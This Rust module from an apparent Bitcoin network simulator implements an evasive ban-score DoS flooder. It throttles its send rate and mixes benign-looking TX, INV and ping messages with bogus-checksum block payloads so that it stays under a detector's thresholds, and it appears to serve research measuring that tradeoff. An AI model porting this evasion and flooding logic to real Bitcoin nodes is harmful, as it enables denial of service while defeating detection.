//! The "more intelligent attacker" the paper leaves as future work
//! (§VII-A2): a BM-DoS flooder that tries to stay under the detector's
//! thresholds.
//!
//! Two evasion controls:
//!
//! * **rate budgeting** — flood no faster than a chosen fraction of the
//!   victim's normal message rate, so the `n` feature stays inside `τ_n`;
//! * **mimicry** — instead of a single message type, draw each message
//!   from a distribution that imitates normal traffic, so the `Λ`
//!   correlation stays above `τ_Λ`.
//!
//! The paper's security argument is exactly the tradeoff this module makes
//! measurable: an attacker that throttles itself below detection inflicts
//! proportionally less damage. The evasion scenario
//! (`banscore::scenario::evasion`) quantifies it.

use crate::payload::FloodPayload;
use btc_netsim::packet::SockAddr;
use btc_netsim::sim::{App, Ctx};
use btc_netsim::tcp::ConnId;
use btc_netsim::time::from_secs_f64;
use btc_wire::drain::FrameAssembler;
use btc_wire::message::{decode_frame, Message, VersionMessage};
use btc_wire::types::{NetAddr, Network};
use std::any::Any;

/// A message class with a mimicry weight.
#[derive(Clone, Debug)]
pub struct MimicEntry {
    /// What to send.
    pub payload: FloodPayload,
    /// Relative frequency.
    pub weight: f64,
}

/// Configuration of the evasive flooder.
#[derive(Clone, Debug)]
pub struct EvasiveConfig {
    /// The victim.
    pub target: SockAddr,
    /// Network magic.
    pub network: Network,
    /// Aggregate send rate in messages/minute — pick below the detector's
    /// `τ_n` headroom to stay invisible.
    pub rate_per_min: f64,
    /// The mimicry mix (weights need not sum to 1).
    pub mix: Vec<MimicEntry>,
}

impl EvasiveConfig {
    /// A mix imitating normal Bitcoin traffic (the TX/INV-dominated,
    /// ping-sprinkled distribution the detector was trained on), with the
    /// damaging payload (bogus blocks) hidden inside at `attack_weight`.
    pub fn stealthy(target: SockAddr, rate_per_min: f64, attack_weight: f64) -> Self {
        let benign = (1.0 - attack_weight).max(0.0);
        EvasiveConfig {
            target,
            network: Network::Regtest,
            rate_per_min,
            mix: vec![
                MimicEntry {
                    payload: FloodPayload::BenignTx,
                    weight: benign * 0.42,
                },
                MimicEntry {
                    payload: FloodPayload::BenignInv,
                    weight: benign * 0.42,
                },
                MimicEntry {
                    payload: FloodPayload::Ping,
                    weight: benign * 0.16,
                },
                MimicEntry {
                    payload: FloodPayload::BogusChecksumBlock {
                        payload_bytes: 200_000,
                    },
                    weight: attack_weight,
                },
            ],
        }
    }
}

/// Statistics of an evasive flood.
#[derive(Clone, Copy, Debug, Default)]
pub struct EvasiveStats {
    /// Messages sent.
    pub messages_sent: u64,
    /// Payload bytes sent.
    pub bytes_sent: u64,
    /// Times the connection was reset (should stay 0: evasion also means
    /// never tripping a ban rule).
    pub resets: u64,
}

/// The throttled, mimicking flooder.
pub struct EvasiveFlooder {
    /// Configuration.
    pub cfg: EvasiveConfig,
    /// Statistics.
    pub stats: EvasiveStats,
    conn: Option<ConnId>,
    handshaked: bool,
    frames: FrameAssembler,
    nonce: u64,
}

impl EvasiveFlooder {
    /// Creates an evasive flooder.
    pub fn new(cfg: EvasiveConfig) -> Self {
        let frames = FrameAssembler::new(cfg.network);
        EvasiveFlooder {
            cfg,
            stats: EvasiveStats::default(),
            conn: None,
            handshaked: false,
            frames,
            nonce: 0,
        }
    }

    fn schedule_next(&self, ctx: &mut Ctx<'_>) {
        if self.cfg.rate_per_min <= 0.0 {
            return;
        }
        let mean_secs = 60.0 / self.cfg.rate_per_min;
        let wait = ctx.rng().exponential(mean_secs).clamp(0.001, 600.0);
        ctx.set_timer(from_secs_f64(wait), 1);
    }

    fn pick_payload(&self, ctx: &mut Ctx<'_>) -> FloodPayload {
        let total: f64 = self.cfg.mix.iter().map(|e| e.weight).sum();
        let mut roll = ctx.rng().gen_f64() * total.max(f64::MIN_POSITIVE);
        for e in &self.cfg.mix {
            if roll < e.weight {
                return e.payload.clone();
            }
            roll -= e.weight;
        }
        self.cfg
            .mix
            .last()
            .map(|e| e.payload.clone())
            .unwrap_or(FloodPayload::Ping)
    }
}

impl App for EvasiveFlooder {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        self.conn = Some(ctx.connect(self.cfg.target));
    }

    fn on_connected(&mut self, ctx: &mut Ctx<'_>, conn: ConnId, peer: SockAddr, _inb: bool) {
        self.conn = Some(conn);
        let local = ctx.local_of(conn).unwrap_or_default();
        let v = VersionMessage::new(
            NetAddr::new(local.ip, local.port),
            NetAddr::new(peer.ip, peer.port),
            ctx.rng().next_u64(),
        );
        ctx.send_bytes(conn, Message::Version(v).to_frame(self.cfg.network));
    }

    fn on_data(&mut self, ctx: &mut Ctx<'_>, conn: ConnId, _peer: SockAddr, data: &[u8]) {
        self.frames.push(data);
        while let Some(raw) = self.frames.next_frame() {
            match decode_frame(&raw) {
                Ok(Message::Version(_)) => {
                    ctx.send_bytes(conn, Message::Verack.to_frame(self.cfg.network));
                }
                Ok(Message::Verack)
                    if !self.handshaked => {
                        self.handshaked = true;
                        self.schedule_next(ctx);
                    }
                _ => {}
            }
        }
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, _token: u64) {
        let Some(conn) = self.conn else {
            return;
        };
        if !ctx.is_established(conn) || !self.handshaked {
            return;
        }
        let payload = self.pick_payload(ctx);
        let local = ctx.local_of(conn).unwrap_or_default();
        self.nonce += 1;
        let bytes = payload.build(self.cfg.network, local, self.cfg.target, self.nonce);
        let len = bytes.len();
        if ctx.send_bytes(conn, bytes) {
            self.stats.messages_sent += 1;
            self.stats.bytes_sent += len as u64;
        }
        self.schedule_next(ctx);
    }

    fn on_closed(
        &mut self,
        _ctx: &mut Ctx<'_>,
        _conn: ConnId,
        _peer: SockAddr,
        _reason: btc_netsim::tcp::CloseReason,
    ) {
        self.stats.resets += 1;
        self.conn = None;
    }

    fn as_any(&self) -> &dyn Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn Any {
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn stealthy_mix_weights() {
        let cfg = EvasiveConfig::stealthy(SockAddr::new([1, 2, 3, 4], 8333), 60.0, 0.25);
        assert_eq!(cfg.mix.len(), 4);
        let total: f64 = cfg.mix.iter().map(|e| e.weight).sum();
        assert!((total - 1.0).abs() < 1e-9);
        // The damaging payload is the bogus block, hidden at 25%.
        let bogus = cfg
            .mix
            .iter()
            .find(|e| matches!(e.payload, FloodPayload::BogusChecksumBlock { .. }))
            .unwrap();
        assert!((bogus.weight - 0.25).abs() < 1e-9);
    }
}
